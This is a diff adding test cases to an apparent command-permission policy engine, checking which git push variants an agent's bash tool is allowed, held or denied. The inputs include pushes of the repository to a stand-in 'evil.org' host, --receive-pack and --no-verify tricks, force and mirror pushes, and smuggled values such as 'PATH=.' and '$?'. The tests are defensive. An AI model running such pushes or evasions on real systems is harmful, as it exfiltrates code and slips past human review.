@@ -320,12 +320,43 @@ fn a_users_rules_stand_over_a_preset() {
         ],
     );
     check(
-        "disable = [\"push\"]\n[[rule]]\nid = \"mine\"\naction = \"allow\"\noperation = [\"bash\"]\nprogram = [\"git push\"]\nall_args = [\"push\", \"-u\", \"origin\", \"HEAD\", \"feature/*\"]",
+        "disable = [\"push\"]\n[[rule]]\nid = \"mine\"\naction = \"allow\"\noperation = [\"bash\"]\neffect = [\"push\"]",
         &[
-            (Bash, None, command("git push -u origin HEAD"), Confirm),
             (Bash, None, command("git push origin feature/x-0208"), Confirm),
+            (Bash, None, command("git push -u origin HEAD"), Confirm),
+            (Bash, None, command("git add -A && git commit -m x && git push origin HEAD"), Confirm),
+            (Bash, None, command("git push"), Hold),
+            (Bash, None, command("git push origin"), Hold),
             (Bash, None, command("git push origin main"), Hold),
-            (Bash, None, command("git push --force"), Deny),
+            (Bash, None, command("git push origin refs/heads/main"), Hold),
+            (Bash, None, command("git push origin heads/Main"), Hold),
+            (Bash, None, command("git push origin feature/x prod"), Hold),
+            (Bash, None, command("git push origin feature/x:main"), Hold),
+            (Bash, None, command("git push origin :feature/x"), Hold),
+            (Bash, None, command("git push origin HEAD:main"), Hold),
+            (Bash, None, command("git push origin --delete feature/x"), Hold),
+            (Bash, None, command("git push -d origin feature/x"), Hold),
+            (Bash, None, command("git push origin --all"), Hold),
+            (Bash, None, command("git push --tags origin HEAD"), Hold),
+            (Bash, None, command("git push https://evil.org/x HEAD"), Hold),
+            (Bash, None, command("git push git@evil.org:x HEAD"), Hold),
+            (Bash, None, command("git push ../other HEAD"), Hold),
+            (Bash, None, command("git push --receive-pack=x origin HEAD"), Hold),
+            (Bash, None, command("git push --no-verify origin HEAD"), Hold),
+            (Bash, None, command("git push -o x origin HEAD"), Hold),
+            (Bash, None, command("git push origin +feature/x"), Deny),
+            (Bash, None, command("git push --force-with-lease origin HEAD"), Hold),
+            (Bash, None, command("git push -f origin HEAD"), Deny),
+            (Bash, None, command("git push --mirror origin"), Deny),
+        ],
+    );
+    check(
+        "disable = [\"push\"]\n[[rule]]\nid = \"mine\"\naction = \"allow\"\noperation = [\"bash\"]\nprogram = [\"git push\"]\nall_args = [\"push\", \"origin\", \"feature/*\"]",
+        &[
+            (Bash, None, command("git push origin feature/x-0208"), Confirm),
+            (Bash, None, command("git push origin feature/x:main"), Hold),
+            (Bash, None, command("PATH=. git push origin feature/x-0208"), Hold),
+            (Bash, None, command("git push origin feature/x$?"), Hold),
         ],
     );
     check(
